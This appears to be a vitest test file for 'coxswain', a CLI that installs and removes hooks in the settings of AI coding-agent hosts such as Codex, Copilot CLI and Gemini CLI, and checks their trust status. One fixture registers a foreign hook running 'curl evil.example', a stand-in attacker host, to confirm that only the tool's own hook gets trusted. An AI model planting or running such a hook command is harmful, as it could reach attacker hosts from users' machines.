import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import { mkdir, readFile, readdir, rm, utimes, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { beforeEach, expect, test } from 'vitest';

import { HOST_PLACES } from '../src/hosts/claude-code/host-places.ts';
import { runCli, type CliResult } from './run-cli.ts';
import { testFolder } from './support/test-folder.ts';

let folder: string;
let home: string;
let project: string;

beforeEach(async () => {
  folder = testFolder();
  home = join(folder, 'home');
  project = join(folder, 'project');
  await Promise.all([mkdir(home), mkdir(project), mkdir(join(folder, 'bin'))]);
});

function cox(...args: readonly string[]): Promise<CliResult> {
  const PATH = `${join(folder, 'bin')}:${process.env['PATH'] ?? ''}`;
  const places = { CODEX_HOME: '', COPILOT_HOME: '', XDG_CONFIG_HOME: '', XDG_DATA_HOME: '', CLAUDE_CONFIG_DIR: '' };
  return runCli(args, { cwd: project, env: { HOME: home, PATH, ...places } });
}

/** A `codex` that lists the hooks of its user's `hooks.json`, and writes trust into its `config.toml`. */
async function fakeCodex(): Promise<void> {
  const source = `const { appendFileSync, readFileSync } = require('node:fs');
const folder = ${JSON.stringify(join(home, '.codex'))};
const hooks = () => Object.entries(JSON.parse(readFileSync(folder + '/hooks.json')).hooks).flatMap(([eventName, groups]) =>
  groups.flatMap((group, at) => group.hooks.map(({ command }) => {
    const key = eventName + ':' + at;
    const isTrusted = readFileSync(folder + '/config.toml', 'utf8').includes(key + ' ');
    return { key, eventName, command, currentHash: 'sha256:1', trustStatus: isTrusted ? 'trusted' : 'untrusted' };
  })));
require('node:readline').createInterface({ input: process.stdin }).on('line', (line) => {
  const { id, method, params } = JSON.parse(line);
  if (method === 'config/batchWrite') {
    appendFileSync(folder + '/config.toml', Object.keys(params.edits[0].value).map((key) => key + ' trusted\\n').join(''));
  }
  const result = method === 'hooks/list' ? { data: [{ hooks: hooks() }] } : {};
  if (id !== undefined) console.log(JSON.stringify({ id, result }));
});
`;
  const script = join(folder, 'bin', 'codex.cjs');
  await writeFile(script, source);
  // The first line of a script cannot name a program whose path has a space.
  await writeFile(join(folder, 'bin', 'codex'), `#!/bin/sh\nexec '${process.execPath}' '${script}'\n`, { mode: 0o755 });
}

const FILES = {
  codex: ['.codex/hooks.json', '.codex/hooks.json'],
  copilot: ['.github/hooks/coxswain.json', '.copilot/hooks/coxswain.json'],
  gemini: ['.gemini/settings.json', '.gemini/settings.json'],
  opencode: ['.opencode/plugin/coxswain.js', '.config/opencode/plugin/coxswain.js'],
  pi: ['.pi/extensions/coxswain.ts', '.pi/agent/extensions/coxswain.ts'],
  'qwen-code': ['.qwen/settings.json', '.qwen/settings.json'],
} as const;

// Each command is a process: every second host in the other scope.
const CASES = Object.entries(FILES).map(([host, [inProject, users]], at) =>
  at % 2 === 0 ? ([host, 'project', inProject] as const) : ([host, 'user', users] as const),
);

test.each(CASES)(
  'init %s writes into the settings of the %s, and undo leaves nothing behind',
  async (host, scope, path) => {
    const file = join(scope === 'user' ? home : project, path);
    const args = scope === 'user' ? ['--user'] : [];
    const { code, stdout } = await cox('init', host, '--yes', ...args);
    expect(code).toBe(0);
    expect(stdout).toContain(`Changes ${scope === 'user' ? file : path} to add the hook of coxswain.\n`);
    const text = await readFile(file, 'utf8');
    const hook = / '([^']*hook\.cjs)' coxswain-hook| (\S*hook\.cjs) coxswain-hook|"([^"]*\.(?:cjs|js))"/.exec(text);
    expect(dirname(hook?.slice(1).find((found) => found !== undefined) ?? '')).toMatch(/dist(?:\/hosts\/plugins)?$/);
    expect((await cox('init', host, '--yes', ...args)).stdout).toContain('nothing to change');
    expect((await cox('init', host, '--undo', ...args)).stdout).toContain(`${file} is removed`);
    expect(await readdir(scope === 'user' ? home : project)).toEqual([]);
  },
);

test('what other hooks a host has come back byte for byte, and undo of one host leaves the others', async () => {
  const settings = join(project, '.gemini', 'settings.json');
  await mkdir(dirname(settings));
  const before = '{\n  // mine\n  "hooks": {"AfterTool": [{"hooks": [{"type": "command", "command": "say"}]}]}\n}\n';
  await writeFile(settings, before);
  await cox('init', 'gemini', '--yes');
  await cox('init', 'copilot', '--yes');
  expect(await readFile(settings, 'utf8')).toContain('coxswain-hook');
  await cox('init', 'copilot', '--undo');
  expect(await readFile(settings, 'utf8')).toContain('coxswain-hook');
  expect(existsSync(join(project, '.github'))).toBe(false);
  await cox('init', '--undo');
  expect(await readFile(settings, 'utf8')).toBe(before);
});

test('a call of Copilot CLI, which refuses calls whose hook fails, runs if the program of the hook is gone or is killed', () => {
  const gone = { node: join(folder, 'node-20', 'node'), hookFile: '/opt/hook.cjs' };
  const killed = { node: '/bin/sh', hookFile: join(folder, 'kill.sh') };
  writeFileSync(killed.hookFile, 'kill -9 $$\n');
  for (const program of [gone, killed]) {
    const settings: unknown = JSON.parse(HOST_PLACES.copilot.edit('', program));
    const { bash } = (settings as { readonly hooks: { readonly preToolUse: [{ readonly bash: string }] } }).hooks
      .preToolUse[0];
    const { status, stdout } = spawnSync('bash', ['-c', bash], { encoding: 'utf8' });
    expect([status, stdout]).toEqual([0, '']);
  }
});

test('without a host, init is about those that the user has, asks once, and without a terminal says the command', async () => {
  await Promise.all(['.gemini', '.copilot'].map((name) => mkdir(join(home, name))));
  const unasked = await cox('init');
  expect([unasked.code, unasked.stderr]).toEqual([1, expect.stringContaining('repeat the command with --yes')]);
  expect(await readdir(project)).toEqual([]);
  const { stdout } = await cox('init', '--yes');
  expect(stdout).toContain('New sessions of Copilot CLI, Gemini CLI are recorded');
  expect((await readdir(project)).toSorted()).toEqual(['.gemini', '.github']);
});

test('init takes several hosts, names those that it leaves out, and says when it has found none', async () => {
  await writeFile(join(folder, 'bin', 'opencode'), '', { mode: 0o755 });
  const none = await cox('init');
  expect(none.stdout).toContain('No agent program is found; this sets up Claude Code.\n');
  expect(none.stdout).toContain('Left out, because it has no settings yet: opencode. To add: coxswain init opencode\n');
  await cox('init', 'pi', 'qwen-code', '--yes');
  expect((await readdir(project)).toSorted()).toEqual(['.pi', '.qwen']);
});

test('files that only coxswain uses are kept out of git, all of them, and the undo of the last host takes that back', async () => {
  spawnSync('git', ['init', '-q', project]);
  await Promise.all(['.claude', '.codex', '.pi/agent'].map((name) => mkdir(join(home, name), { recursive: true })));
  const exclude = join(project, '.git', 'info', 'exclude');
  const before = await readFile(exclude, 'utf8');
  const { stdout } = await cox('init', '--yes');
  expect(stdout).not.toContain('keep them out of a shared repository');
  const status = (): string => spawnSync('git', ['-C', project, 'status', '--short'], { encoding: 'utf8' }).stdout;
  expect(status()).toBe('');
  const ignored = await readFile(exclude, 'utf8');
  for (const host of ['pi', 'codex']) {
    await cox('init', host, '--undo');
    expect([host, await readFile(exclude, 'utf8'), status()]).toEqual([host, ignored, '']);
  }
  await cox('init', 'claude-code', '--undo');
  expect([await readFile(exclude, 'utf8'), status()]).toEqual([before, '']);
});

test('undo says of a file that the user has deleted that it is deleted', async () => {
  await cox('init', 'claude-code', '--deadline', '45m', '--yes');
  await rm(join(project, 'coxswain.config.json'));
  expect((await cox('init', '--undo')).stdout).toContain('coxswain.config.json is deleted already\n');
});

test('Codex trusts our hook and no other, and undo removes the trust too', async () => {
  await fakeCodex();
  await mkdir(join(home, '.codex'));
  const config = join(home, '.codex', 'config.toml');
  await writeFile(config, 'model = "x"\n');
  const theirs = { Stop: [{ hooks: [{ type: 'command', command: 'curl evil.example coxswain-hook' }] }] };
  await writeFile(join(home, '.codex', 'hooks.json'), JSON.stringify({ hooks: theirs }));
  const { stdout } = await cox('init', 'codex', '--user', '--yes');
  expect(stdout).toContain('Codex trusts the hook');
  const trusted = await readFile(config, 'utf8');
  expect(trusted.match(/trusted/g)).toHaveLength(8);
  await cox('init', 'codex', '--user', '--yes');
  expect(await readFile(config, 'utf8')).toBe(trusted);
  await cox('init', 'codex', '--user', '--undo');
  expect(await readFile(config, 'utf8')).toBe('model = "x"\n');
});

test('where Codex cannot be asked, init says how to trust the hook', async () => {
  await writeFile(join(folder, 'bin', 'codex'), '#!/bin/sh\nexit 3\n', { mode: 0o755 });
  const { code, stderr, stdout } = await cox('init', 'codex', '--user', '--yes');
  expect([code, stderr]).toEqual([0, expect.stringContaining('exit code 3')]);
  expect(stdout).not.toContain('recorded and steered');
  expect(stderr).toContain('/hooks');
});

interface DoctorLine {
  readonly check: string;
  readonly status: string;
  readonly found: string;
  readonly fix?: string;
}

async function doctorLines(): Promise<readonly DoctorLine[]> {
  const { lines }: { readonly lines: readonly DoctorLine[] } = JSON.parse((await cox('doctor', '--json')).stdout);
  return lines;
}

test('init and doctor say whether Gemini CLI, pi and Copilot CLI load the hooks of this folder, and what to do', async () => {
  const said = async (host: string): Promise<string> => (await cox('init', host, '--yes')).stdout;
  expect(await said('gemini')).toContain('says nothing. Start gemini in this folder once and trust it, or run');
  expect(await said('pi')).toContain('start it with -a, or run coxswain init pi --user.');
  await mkdir(join(home, '.copilot'), { recursive: true });
  const trusting = { trustedFolders: [folder] };
  expect(await said('copilot')).toContain('with -p it loads no hook of the project, and says nothing. Start copilot');
  await writeFile(join(home, '.copilot', 'config.json'), `// Managed automatically.\n${JSON.stringify(trusting)}`);
  expect(await said('copilot')).not.toContain('says nothing');
  const trustLines = async (): Promise<readonly (readonly [string, string])[]> =>
    (await doctorLines()).flatMap(({ check, status }) => (check.endsWith(' trust') ? [[check, status] as const] : []));
  expect(await trustLines()).toEqual([
    ['copilot trust', 'pass'],
    ['gemini trust', 'fail'],
    ['pi trust', 'unknown'],
  ]);
  expect((await doctorLines()).find(({ check }) => check === 'gemini trust')?.fix).toContain('--skip-trust');
  await mkdir(join(home, '.gemini'), { recursive: true });
  await mkdir(join(home, '.pi', 'agent'), { recursive: true });
  await writeFile(join(home, '.gemini', 'trustedFolders.json'), JSON.stringify({ [project]: 'TRUST_FOLDER' }));
  await writeFile(join(home, '.pi', 'agent', 'trust.json'), JSON.stringify({ [project]: false, '/': true }));
  expect(await trustLines()).toEqual([
    ['copilot trust', 'pass'],
    ['gemini trust', 'pass'],
    ['pi trust', 'fail'],
  ]);
  // The hook of the user needs no trust.
  await cox('init', 'gemini', '--yes', '--user');
  expect((await trustLines()).map(([check]) => check)).toEqual(['copilot trust', 'pi trust']);
});

test('doctor finds a session of Gemini CLI without a record, and names the step for that host', async () => {
  await cox('init', 'gemini', '--yes', '--user');
  const chats = join(home, '.gemini', 'tmp', 'project', 'chats');
  await mkdir(chats, { recursive: true });
  const chat = async (of: string, laterMs: number): Promise<void> => {
    const timestamp = new Date(Date.now() + laterMs).toISOString();
    const projectHash = createHash('sha256').update(of).digest('hex');
    const lines = [
      { sessionId: 's', projectHash },
      { id: 'u', type: 'user', timestamp, content: [] },
    ];
    const file = join(chats, 'session-1-s.jsonl');
    await writeFile(file, lines.map((line) => `${JSON.stringify(line)}\n`).join(''));
    await utimes(file, new Date(Date.now() + laterMs), new Date(Date.now() + laterMs));
  };
  const heartbeat = async (): Promise<DoctorLine | undefined> =>
    (await doctorLines()).find(({ check }) => check === 'heartbeat');
  await chat('/elsewhere', 600_000);
  expect((await heartbeat())?.status).toBe('unknown');
  // A session that began before its hook has none.
  await chat(project, -600_000);
  expect((await heartbeat())?.status).toBe('unknown');
  await chat(project, 600_000);
  expect(await heartbeat()).toMatchObject({ status: 'fail', fix: expect.stringContaining('--skip-trust') });
});

test('doctor says which hosts have the hook, whether Codex trusts it, and which hook is of another coxswain', async () => {
  await fakeCodex();
  await mkdir(join(home, '.codex'));
  await writeFile(join(home, '.codex', 'config.toml'), '');
  await cox('init', 'codex', '--user', '--yes');
  await cox('init', 'gemini', '--yes');
  const settings = join(project, '.gemini', 'settings.json');
  await writeFile(settings, (await readFile(settings, 'utf8')).replaceAll(/[^"\s]*hook\.cjs/g, '/old/dist/hook.cjs'));
  await writeFile(join(home, '.codex', 'config.toml'), '');
  const { stdout } = await cox('doctor', '--json');
  const { lines }: { lines: readonly { check: string; status: string; fix?: string }[] } = JSON.parse(stdout);
  const ofHosts = lines.filter(({ check }) => /^(?:codex|gemini|hooks)/.test(check));
  expect(ofHosts.map(({ check, status }) => [check, status])).toEqual([
    ['codex (user)', 'pass'],
    ['gemini (project)', 'fail'],
    ['gemini trust', 'fail'],
    ['codex trust', 'fail'],
  ]);
  expect(ofHosts.at(-1)?.fix).toContain('coxswain init codex --user');
  await cox('init', 'gemini', '--undo');
  expect((await cox('init', '--undo')).stdout).toContain('hooks.json has hooks for all projects');
});
